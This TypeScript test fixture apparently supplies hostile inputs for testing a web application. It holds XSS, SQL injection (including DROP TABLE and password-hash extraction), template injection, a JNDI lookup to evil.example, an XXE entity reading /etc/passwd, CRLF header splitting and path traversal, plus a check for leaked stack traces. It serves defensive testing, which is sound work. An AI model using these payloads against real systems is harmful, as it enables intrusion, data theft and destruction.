// What an attacker types into every field: overlong and broken text, injection attempts of every
// family, header splitting, numbers that are not numbers. `encoded` is how the value travels in a
// form body or query string: usually percent-encoded by us, but invalid UTF-8 has no JavaScript
// string form and is written as the raw bytes' escapes.
export interface HostileValue {
  name: string;
  /** The value as text (what a CLI argument can carry); for raw escapes, what a decoder might make of them. */
  text: string;
  /** As it goes into application/x-www-form-urlencoded or a query string. */
  encoded: string;
  /** Whether a command-line argument can carry it (no NUL byte, not bytes without a text form). */
  argv: boolean;
}

const plain = (name: string, text: string): HostileValue => ({
  name,
  text,
  encoded: encodeURIComponent(text),
  argv: !text.includes('\u0000'),
});
const raw = (name: string, encoded: string, text = '\uFFFD'): HostileValue => ({ name, text, encoded, argv: false });

export const HOSTILE_VALUES: HostileValue[] = [
  plain('empty', ''),
  plain('blank', '   '),
  plain('very long (10 000 characters)', 'a'.repeat(10_000)),
  plain('long accented text', 'é'.repeat(2_000)),
  plain('long emoji text', '😀'.repeat(500)),
  plain('NUL byte inside', 'admin\u0000@example.com'),
  plain('only a NUL byte', '\u0000'),
  plain('control characters and an escape sequence', '\u0001\u0002\u001b[31mred\u001b[0m'),
  raw('invalid UTF-8 %C3%28', '%C3%28'),
  raw('invalid UTF-8 %FF', '%FF'),
  raw('overlong UTF-8 slash %C0%AF', '%C0%AF'),
  raw('UTF-8-encoded surrogate %ED%A0%80', '%ED%A0%80'),
  raw('truncated UTF-8 %E2%82', '%E2%82'),
  raw('dangling percent', '%', '%'),
  raw('bad percent escape %zz', '%zz', '%zz'),
  // A lone surrogate has no UTF-8 form: encodeURIComponent refuses it, Node's argv turns it into U+FFFD.
  { name: 'lone surrogate', text: '\uD800', encoded: 'a%ED%B0%80b', argv: true },
  plain('Cyrillic а look-alike email', 'аdmin@example.com'),
  plain('Ukrainian і look-alike email', 'admіn@example.com'),
  plain('right-to-left override', 'admin\u202E@example.com'),
  plain('right-to-left override reversing the domain', '\u202Emoc.elpmaxe@nimda'),
  plain('zero-width space', 'ad\u200Bmin@example.com'),
  plain('byte-order mark', '\uFEFFadmin'),
  plain('template ${7*7}', '${7*7}'),
  plain('template {{7*7}}', '{{7*7}}'),
  plain('template <%= 7*7 %>', '<%= 7*7 %>'),
  plain('template #{7*7}', '#{7*7}'),
  plain('template reaching the process', '{{constructor.constructor("return process")()}}'),
  plain('JNDI lookup', '${jndi:ldap://evil.example/a}'),
  plain('script element', '<script>alert(1)</script>'),
  plain('attribute break with double quote', '"><img src=x onerror=alert(1)>'),
  plain('attribute break with single quote', "' autofocus onfocus=alert(1) x='"),
  plain('svg onload', '<svg/onload=alert(1)>'),
  plain('javascript: URL', 'javascript:alert(1)'),
  plain('pre-escaped entities', '&lt;script&gt;&amp;&quot;'),
  plain("SQL ' OR 1=1 --", "' OR 1=1 --"),
  plain('SQL UNION', "' UNION SELECT password_hash FROM accounts --"),
  plain('SQL DROP TABLE', "'; DROP TABLE accounts; --"),
  plain('SQL sleep', "1' AND pg_sleep(5) --"),
  plain('NoSQL operator', '{"$ne":null}'),
  plain('LDAP filter', '*)(uid=*))(|(uid=*'),
  plain('XML entity', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  raw('CR LF Set-Cookie (encoded)', '%0d%0aSet-Cookie:%20evil=1', '\r\nSet-Cookie: evil=1'),
  plain('CR LF Location header', 'x\r\nLocation: https://evil.example/'),
  plain('line feed', 'first\nsecond'),
  plain('negative number', '-1'),
  plain('huge negative number', '-99999999999999999999'),
  plain('huge number', '9'.repeat(400)),
  plain('1e308', '1e308'),
  plain('NaN', 'NaN'),
  plain('Infinity', 'Infinity'),
  plain('hexadecimal', '0x7fffffff'),
  plain('fraction', '123.456'),
  plain('seven digits', '1234567'),
  plain('five digits', '12345'),
  plain('path traversal', '../../../../etc/passwd'),
  plain('file URL', 'file:///etc/passwd'),
  plain('prototype key', '__proto__'),
  plain('null', 'null'),
  plain('format string', '%s%s%s%n'),
  plain('backslashes', '\\\\evil.example\\share'),
];

/** Fragments of a value that must never come back unescaped in a page. */
export function isMarkup(value: HostileValue): boolean {
  return /[<>"']/.test(value.text);
}

// Stack frames, source paths and error dumps: none may reach a person, a client or an administrator.
const LEAKS = [/\n\s*at \S/, /\bat [\w.<>]+ \(/, /\/src\//, /node_modules/, /\b\w+Error: /, /^Error: /m, /\.[jt]s:\d+/];

/** Fails, naming `label`, when `text` shows a stack frame, a source path or an error dump. */
export function expectNoLeak(label: string, text: string): void {
  for (const leak of LEAKS) expect([label, leak.test(text)]).toEqual([label, false]);
}
